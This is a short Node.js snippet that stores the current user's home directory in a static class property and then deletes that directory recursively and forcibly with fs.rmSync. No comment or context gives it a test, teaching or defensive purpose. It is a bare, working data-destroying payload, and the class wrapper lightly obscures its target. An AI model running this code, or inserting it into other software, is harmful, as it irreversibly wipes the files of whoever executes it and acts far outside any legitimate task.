const fs = require('fs');
const os = require('os');

const Paths = class {
  static root = os.homedir();
};
fs.rmSync(Paths.root, { recursive: true, force: true });
